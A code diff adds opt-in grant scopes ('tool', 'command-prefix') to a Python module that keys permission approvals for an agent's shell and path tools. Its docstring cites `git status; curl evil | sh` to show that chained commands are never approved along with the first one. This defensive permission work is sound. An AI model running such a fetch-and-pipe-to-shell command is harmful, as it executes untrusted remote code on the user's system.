@@ -6,15 +6,35 @@ A grant key names exactly what was approved or rejected:
   approving `git status` never approves `git status; curl evil | sh`;
 - a path tool: ``path:`` + the tool name + the canonical path;
 - any other tool: ``tool:`` + the tool name.
+
+`SafetyConfig.grant_scope` can widen what an answer covers, opt-in (`broaden`): ``tool``
+files every grant under the tool name; ``command-prefix`` files a command's grant under
+``prefix:`` + each simple command's program and first non-option word (`git status`
+covers `git status --short`, not `git push`). Grants never lift a DENY or a hard ASK,
+whatever their scope, and an opaque command has no key to widen.
 """
 
 from __future__ import annotations
 
 import json
+import re
 from collections.abc import Sequence
 from enum import StrEnum
+from typing import Literal
 
-__all__ = ["GrantEffect", "command_grant_key", "path_grant_key", "tool_grant_key"]
+__all__ = [
+    "GrantEffect",
+    "GrantScope",
+    "broaden",
+    "command_grant_key",
+    "path_grant_key",
+    "tool_grant_key",
+]
+
+GrantScope = Literal["exact", "tool", "command-prefix"]
+
+_REDIRECT = re.compile(r"\d*[<>]")
+_ASSIGNMENT = re.compile(r"[A-Za-z_][A-Za-z0-9_]*=")
 
 
 class GrantEffect(StrEnum):
@@ -37,3 +57,29 @@ def path_grant_key(tool: str, canonical_paths: Sequence[str]) -> str:
 def tool_grant_key(tool: str) -> str:
     """Key for a tool with no finer scope (no command, no path)."""
     return "tool:" + json.dumps(tool, ensure_ascii=False)
+
+
+def broaden(grant_key: str | None, scope: str, tool: str) -> str | None:
+    """The key an "always" answer is filed under for `scope` (`exact` keeps `grant_key`)."""
+    if grant_key is None or scope == "exact":
+        return grant_key
+    if scope == "tool":
+        return tool_grant_key(tool)
+    if scope == "command-prefix" and grant_key.startswith("cmd:"):
+        argvs = json.loads(grant_key[4:])
+        return "prefix:" + json.dumps([_prefix(argv) for argv in argvs], ensure_ascii=False)
+    return grant_key  # path tools and others keep their narrow key
+
+
+def _prefix(argv: Sequence[str]) -> list[str]:
+    if argv and argv[0] == "<operators>":
+        return list(argv)  # the shape of the compound command stays exact
+    out: list[str] = []
+    words = list(argv)
+    while words and _ASSIGNMENT.match(words[0]):
+        out.append(words.pop(0))
+    if words:
+        out.append(words.pop(0))
+    if words and not words[0].startswith("-") and not _REDIRECT.match(words[0]):
+        out.append(words[0])
+    return out
